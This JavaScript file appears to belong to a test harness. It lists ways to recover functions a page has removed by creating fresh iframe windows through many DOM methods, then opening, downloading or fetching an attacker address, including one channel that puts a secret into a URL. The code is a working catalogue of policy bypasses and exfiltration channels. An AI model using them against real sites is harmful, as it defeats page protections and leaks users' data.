/**
 * Channels from the window of a new frame, which still has the functions that the page has removed from its own window.
 * The channels create the frame in different ways. Most then open the attacker's address from its window.
 */

const XHTML = "http://www.w3.org/1999/xhtml";
const FRAME = "<iframe></iframe>";

/** @type {Record<string, () => Window | null | undefined>} */
const freshWindowBy = {
  "an element with a namespace": () => shown(document.createElementNS(XHTML, "x:iframe")),
  "an old frame": () => {
    const set = document.documentElement.appendChild(document.createElement("frameset"));
    return set.appendChild(document.createElement("frame")).contentWindow;
  },
  "a class of one's own": () => {
    const Own = class extends HTMLIFrameElement {};
    customElements.define(`own-${Date.now()}`, Own, { extends: "iframe" });
    return shown(new Own());
  },
  "another document's element": () => shown(document.implementation.createHTMLDocument("").createElement("iframe")),
  "a document of its own kind": () => shown(new Document().createElementNS(XHTML, "iframe")),
  "a template's document": () => shown(document.createElement("template").content.ownerDocument.createElement("iframe")),
  "markup": () => within((place) => (place.innerHTML = trusted().createHTML(FRAME))),
  "markup beside an element": () => within((place) => place.insertAdjacentHTML("beforeend", trusted().createHTML(FRAME))),
  "markup that may be unsafe": () => within((place) => place.setHTMLUnsafe(trusted().createHTML(FRAME))),
  "markup in another document": () => {
    const other = document.implementation.createHTMLDocument("");
    other.body.innerHTML = trusted().createHTML(FRAME);
    return shown(other.querySelector("iframe"));
  },
  "a parser": () => shown(new DOMParser().parseFromString(trusted().createHTML(FRAME), "text/html").querySelector("iframe")),
  "a parser for what may be unsafe": () => shown(Document.parseHTMLUnsafe(trusted().createHTML(FRAME)).querySelector("iframe")),
  "a range": () => within((place) => place.append(document.createRange().createContextualFragment(trusted().createHTML(FRAME)))),
  "a command": () =>
    within((place) => {
      place.contentEditable = "true";
      place.focus();
      getSelection()?.selectAllChildren(place);
      document.execCommand("insertHTML", false, trusted().createHTML(FRAME));
    }),
};

for (const [how, make] of Object.entries(freshWindowBy)) {
  way(`window.open from a fresh window, by ${how}`, ({ address }) => void make()?.open(address), LAST);
}
way("document.open in a fresh window's way", ({ address }) => void freshWindow().document.open(address, "_blank", ""), LAST);
way("link clicked by a fresh window's function", ({ address }) => {
  const link = Object.assign(document.createElement("a"), { href: address, target: "_blank" });
  freshWindow().HTMLElement.prototype.click.call(link);
}, LAST);
way("download in a fresh window", ({ address }) => {
  const inner = freshWindow().document;
  const link = inner.body.appendChild(inner.createElement("a"));
  Object.assign(link, { href: address, download: "x" }).click();
}, LAST);
way("own host: download in a fresh window", ({ own, secret }) => {
  const inner = freshWindow().document;
  const link = inner.body.appendChild(inner.createElement("a"));
  Object.assign(link, { href: `${own}/about/?${secret}`, download: "x" }).click();
}, LAST);
way("own host: window without a policy of its own, opened from a fresh window, then fetch", async ({ own, address }) => {
  const opened = freshWindow().open(`${own}/about/answers.schema.json`);
  await there(opened);
  return opened.fetch(address);
}, WINDOW);

/** @param {HTMLIFrameElement | null} frame */
function shown(frame) {
  document.body.append(frame);
  return frame?.contentWindow;
}

/** @param {(place: HTMLElement) => void} fill */
function within(fill) {
  const place = put("div");
  fill(place);
  return place.querySelector("iframe")?.contentWindow;
}
